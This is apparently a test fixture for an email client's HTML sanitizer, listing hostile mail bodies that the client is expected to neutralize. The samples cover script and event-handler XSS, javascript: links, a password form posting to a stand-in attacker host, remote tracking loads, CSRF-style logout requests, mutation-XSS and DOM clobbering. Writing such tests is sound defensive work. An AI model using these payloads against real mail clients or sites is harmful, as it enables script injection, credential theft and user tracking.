/* Mail that tries to run, fetch, navigate or deceive. `pwned` is a function the test exposes to every frame. */
const far = "https://evil.example";

export const hostile = {
	script: `<script>parent.pwned("script")</script><script src="${far}/x.js"></script><scr<script>ipt>parent.pwned(1)</script>`,
	handlers:
		`<img src="x" onerror="parent.pwned('onerror')"><body onload="parent.pwned('onload')"><div onclick="parent.pwned('click')" ` +
		`style="position:fixed;inset:0">over everything</div><details open ontoggle="parent.pwned('toggle')"><summary>a</summary></details>`,
	"script addresses":
		`<a href="javascript:parent.pwned('href')" style="position:absolute;inset:0">all of it</a><a href="data:text/html,<script>parent.pwned(1)</script>">d</a>` +
		`<a href=" java&#x0a;script:parent.pwned('spaced')">s</a>`,
	"meta refresh and base": `<meta http-equiv="refresh" content="0;url=${far}/refresh"><base href="${far}/"><p><a href="rel">rel</a></p>`,
	forms: `<form action="${far}/steal" method="post"><input name="password" autofocus><button formaction="javascript:parent.pwned('form')">Log in</button></form>`,
	svg:
		`<svg onload="parent.pwned('svg')"><script>parent.pwned("svg script")</script><image href="${far}/svg.png"/><use href="${far}/x.svg#a"/>` +
		`<animate onbegin="parent.pwned('begin')" attributeName="x"/></svg><math><mtext><img src=x onerror="parent.pwned('math')"></mtext></math>`,
	"css addresses":
		`<style>@import url("${far}/a.css");body{background:url(${far}/bg.png)}@font-face{font-family:f;src:url(${far}/f.woff)}p{font-family:f;` +
		`background-image:image-set("${far}/set.png" 1x)}p::after{content:url(${far}/c.png)}</style>` +
		`<p style="background:url('${far}/inline.png');list-style-image:url(${far}/l.png);cursor:url(${far}/cur.png),auto">styled</p>` +
		`<table background="${far}/table.png"><tr><td background="${far}/td.png">x</td></tr></table>`,
	"remote media":
		`<img src="${far}/track.gif" srcset="${far}/2x.gif 2x" width="1"><picture><source srcset="${far}/p.webp"><img src="${far}/p.png"></picture>` +
		`<video src="${far}/v.mp4" poster="${far}/p.png" autoplay></video><audio src="${far}/a.mp3" autoplay></audio><input type="image" src="${far}/i.png">` +
		`<link rel="stylesheet" href="${far}/s.css"><link rel="prefetch" href="${far}/pre"><link rel="dns-prefetch" href="//evil.example">`,
	frames:
		`<iframe src="${far}/frame"></iframe><iframe srcdoc="<script>parent.parent.pwned('srcdoc')</script>"></iframe><object data="${far}/o.swf"></object>` +
		`<embed src="${far}/e.swf"><frameset><frame src="${far}/f"></frameset><portal src="${far}/p"></portal>`,
	"our own addresses":
		`<img src="/api/v1/logout"><img src="../api/v1/me"><p style="background:url(/api/v1/me)">x</p><a ping="${far}/ping" href="/api/v1/logout">y</a>`,
	"confused parsers":
		`<noscript><p title="</noscript><img src=x onerror=parent.pwned('noscript')>"></noscript><template><img src=x onerror="parent.pwned('template')"></template>` +
		`<textarea></textarea><img src=x onerror="parent.pwned('textarea')"></textarea><!--><img src=x onerror="parent.pwned('comment')">-->` +
		`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="parent.pwned('mxss')">`,
	clobbering: `<img name="body" id="cookie"><form id="documentElement"><input name="attributes"></form><a id="defaultView" href="${far}/x">c</a>`,
};

export const pictures = {
	png: Buffer.from(
		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
		"base64",
	),
	mail:
		`<style>.green{color:rgb(0,128,0)}.bg{background:u\\72l(http://127.0.0.2/sheet)}@media all{.bg{list-style-image:url(http://127.0.0.2/media)}}</style>` +
		`<ul><li class="bg">styled</li></ul>` +
		`<p class="green">green</p><div style="height:400px">tall</div>` +
		`<img src="https://pictures.example/a.png" alt="remote"><img src="cid:own@mail" alt="own">` +
		`<p style="background:url(http://127.0.0.2/never)">x</p><script src="https://evil.example/x.js"></script>`,
};
